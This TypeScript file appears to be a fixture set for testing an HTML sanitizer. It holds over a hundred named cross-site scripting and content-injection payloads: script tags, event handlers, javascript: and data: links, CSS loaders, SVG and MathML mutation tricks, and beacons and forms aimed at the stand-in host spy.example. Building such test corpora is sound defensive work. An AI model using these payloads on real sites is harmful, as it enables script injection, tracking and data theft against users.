/**
 * Markup that tries to run, to load, to leave the frame or to lie over its surroundings. Whatever
 * would run calls `alert`, whatever would load asks `spy.example`.
 */
export const htmlAttacks: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'script, mixed case and spaces': '<ScRiPt \n src=//spy.example/x.js></sCrIpT >',
  'script in a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script, unclosed': '<p>x<script>alert(1)//',
  'script, half open': '<<script>alert(1)//<</script>',
  'script with a NUL': '<scr\0ipt>alert(1)</scr\0ipt>',
  'script after a bogus end': '</p <script>alert(1)</script>',
  'image error': '<img src=x onerror=alert(1)>',
  'image error, slashes': '<img/src="x"/onerror=alert(1)//',
  'image error, backticks': '<img src=`x` onerror=`alert(1)`>',
  'image error, broken quotes': '<img """><script>alert(1)</script>">',
  'image error, line break': '<img src=x\nonerror\n=\nalert(1)>',
  'handler on any element':
    '<b onclick=alert(1) ONMOUSEOVER=alert(1) onfocus=alert(1) autofocus>x</b>',
  'handler by animation': '<b style="animation:x" onanimationstart=alert(1)>x</b>',
  details: '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'body handler': '<body onload=alert(1) onpageshow=alert(1)>x</body>',
  marquee: '<marquee onstart=alert(1)>x</marquee>',
  'javascript link': '<a href="javascript:alert(1)">x</a>',
  'javascript link, entities': '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>',
  'javascript link, entities without end': '<a href="&#0000106avascript:alert(1)">x</a>',
  'javascript link, tabs': '<a href="java\tscr\nipt:alert(1)">x</a>',
  'javascript link, tab entities': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'javascript link, leading control': '<a href="\x01 javascript:alert(1)">x</a>',
  'javascript link, case': '<a href=" JaVaScRiPt:alert(1)">x</a>',
  'javascript link, twice encoded': '<a href="&amp;#106;avascript:alert(1)">x</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'data link': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'data link, base64': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'blob and file links': '<a href="blob:https://x/1">x</a><a href="file:///etc/passwd">y</a>',
  'protocol-relative link': '<a href="//spy.example/x">x</a>',
  'image of a script': '<img src="javascript:alert(1)"><img dynsrc="javascript:alert(1)">',
  'image of data':
    '<img src="data:image/svg+xml,<svg onload=alert(1) xmlns=http://www.w3.org/2000/svg>">',
  'remote image': '<img src="https://spy.example/pixel.gif">',
  'remote image, no scheme':
    '<img src="//spy.example/pixel.gif"><img src="\\\\spy.example\\x.gif">',
  srcset: '<img srcset="https://spy.example/a.png 1x, //spy.example/b.png 2x" alt="x">',
  picture:
    '<picture><source srcset="https://spy.example/a.png"><img src="//spy.example/b.png"></picture>',
  'lowsrc and longdesc': '<img lowsrc="https://spy.example/a" longdesc="https://spy.example/b">',
  'background attributes':
    '<body background="https://spy.example/a"><table background="//spy.example/b"><td background="https://spy.example/c">x',
  'style element':
    '<style>@import "https://spy.example/x.css"; body{background:url(//spy.example/y)}</style>',
  'style element, unclosed': '<style>*{background:url(//spy.example/y)}',
  'style ends early': '<style><a title="</style><img src=x onerror=alert(1)>">',
  'css url': '<b style="background:url(https://spy.example/x)">x</b>',
  'css url, quotes': '<b style="background-image:url(&quot;https://spy.example/x&quot;)">x</b>',
  'css url, escapes': '<b style="background:\\75\\72\\6c(https://spy.example/x)">x</b>',
  'css url, comments': '<b style="background:u/**/rl(https://spy.example/x);color:/**/red">x</b>',
  'css image-set': '<b style="background:image-set(\'https://spy.example/x\' 1x)">x</b>',
  'css import': '<b style="@import url(https://spy.example/x)">x</b>',
  'css list, cursor, content':
    '<b style="list-style:url(//spy.example/a);cursor:url(//spy.example/b),auto;content:url(//spy.example/c)">x</b>',
  'css border image, mask, filter':
    '<b style="border-image:url(//spy.example/a);mask:url(//spy.example/b);filter:url(//spy.example/c)">x</b>',
  'css font': '<b style="font-family:x;src:url(//spy.example/a)">x</b>',
  'css variable': '<b style="--x:url(//spy.example/a);background:var(--x)">x</b>',
  'css expression': '<b style="width:expression(alert(1))">x</b>',
  'css expression, escapes': '<b style="width:ex\\70ression(alert(1))">x</b>',
  'css binding and behaviour':
    '<b style="-moz-binding:url(//spy.example/x#y);behavior:url(//spy.example/z)">x</b>',
  'css out of the attribute':
    '<b style="color:red&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</b>',
  'css over everything':
    '<a href="https://spy.example" style="position:fixed;inset:0;z-index:9;width:9999px;height:99999px;margin-top:-500px;transform:scale(99)">x</a>',
  'svg script': '<svg><script>alert(1)</script></svg>',
  'svg handlers': '<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
  'svg link': '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  'svg use and image':
    '<svg><use href="https://spy.example/a#b"/><image href="https://spy.example/c"/></svg>',
  'svg animates a link':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  'svg style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'svg foreignObject':
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  'svg desc, title':
    '<svg><desc><img src=x onerror=alert(1)></desc><title><img src=x onerror=alert(1)></title>',
  'math link': '<math href="javascript:alert(1)">x</math>',
  'math annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  'mutation by mglyph':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'mutation by table':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'mutation by textarea': '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  'mutation by title': '<title><a title="</title><img src=x onerror=alert(1)>">',
  'mutation by xmp': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'mutation by noembed': '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  'mutation by noframes': '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  'mutation by iframe': '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  'mutation by plaintext': '<plaintext><img src=x onerror=alert(1)>',
  'mutation by template':
    '<template><p title="</template><img src=x onerror=alert(1)>"></template>',
  'mutation by select':
    '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  'mutation by backtick': '<p title="``onmouseover=alert(1)">x</p>',
  'mutation by listing': '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  'raw text of entities':
    '<xmp>&lt;img src=x onerror=alert(1)&gt;</xmp><option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  comment: '<!--><img src=x onerror=alert(1)>-->',
  'comment, bang end': '<!-- --!><img src=x onerror=alert(1)> -->',
  'comment, dash end': '<!---><img src=x onerror=alert(1)>-->',
  'comment, conditional': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'comment in an attribute': '<p title="<!--"><img src=x onerror=alert(1)><p title="-->">',
  cdata: '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'cdata, half': '<![CDATA[><img src=x onerror=alert(1)>]]>',
  'cdata in svg': '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>',
  'processing instruction':
    '<?xml version="1.0"?><?import implementation="x"><img src=x onerror=alert(1)>',
  doctype: '<!DOCTYPE html SYSTEM "x" [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  iframe: '<iframe src="javascript:alert(1)"></iframe><iframe src="https://spy.example"></iframe>',
  srcdoc: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  frames: '<frameset onload=alert(1)><frame src="https://spy.example"></frameset>',
  object: '<object data="https://spy.example/x"><param name=x value=y></object>',
  embed:
    '<embed src="https://spy.example/x.swf"><applet code=x archive="//spy.example/x"></applet>',
  base: '<base href="https://spy.example/"><a href="x">x</a><img src="y">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://spy.example/">',
  'meta refresh, data':
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
  'meta policy': '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  'links that load':
    '<link rel=stylesheet href="https://spy.example/x.css"><link rel=prefetch href="//spy.example/y"><link rel=dns-prefetch href="//spy.example">',
  form: '<form action="https://spy.example"><input name=x><button formaction="javascript:alert(1)">x</button></form>',
  'form by attribute':
    '<input type=image src="https://spy.example/x" formaction="https://spy.example"><button form=x>y</button>',
  'isindex and keygen':
    '<isindex type=image src=1 onerror=alert(1)><keygen autofocus onfocus=alert(1)>',
  'video and audio':
    '<video src="https://spy.example/x" poster="//spy.example/y" onerror=alert(1)><source src=x onerror=alert(1)></video><audio src="//spy.example/z" autoplay>',
  track: '<video><track src="https://spy.example/x" default></video>',
  portal: '<portal src="https://spy.example"></portal><fencedframe></fencedframe>',
  'custom element':
    '<x-y is="z" onclick=alert(1)>x</x-y><constructor onclick=alert(1)>y</constructor>',
  'names of the document': '<img name="cookie"><p id="location" class="host" name="body">x</p>',
  'ping and download':
    '<a href="https://x.example" ping="https://spy.example" download target="_top" rel="opener">x</a>',
  'image map':
    '<img usemap="#m" alt="x"><map name=m><area href="javascript:alert(1)" shape=default></map>',
  'popover and dialog':
    '<dialog open>x</dialog><button popovertarget=p>y</button><div popover id=p>z</div>',
  'attribute with a quote': '<a href="https://x.example/&quot;onclick=&quot;alert(1)">x</a>',
  'attribute with an angle': '<img alt="--><script>alert(1)</script>" src="https://spy.example">',
  'attribute without quotes': '<img alt=`"><script>alert(1)</script>` src=https://spy.example>',
  'attribute, duplicate': '<a href="https://x.example" href="javascript:alert(1)">x</a>',
  'attribute of the prototype':
    '<a __proto__="x" constructor=y hasOwnProperty=z href="https://x.example">x</a>',
  'text that looks placed':
    'src="cid:0" &lt;img src="cid:0"&gt; &lt;img src=x onerror=alert(1)&gt;',
  'entity without end': '&lt<img src=x onerror=alert(1)>&#60script&#62alert(1)&#60/script&#62',
  'unclosed tag': '<img src=x onerror=alert(1) ',
  'unclosed attribute': '<p title="x><img src=x onerror=alert(1)>',
  'closing what is ours': '</body></html></iframe></style></title><script>alert(1)</script>',
  'utf-7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'overlong and odd characters':
    '\u{FF1C}script\u{FF1E}alert(1)\u{2028}\u{FEFF}<img\u{2028}src=x\u{A0}onerror=alert(1)>',
};
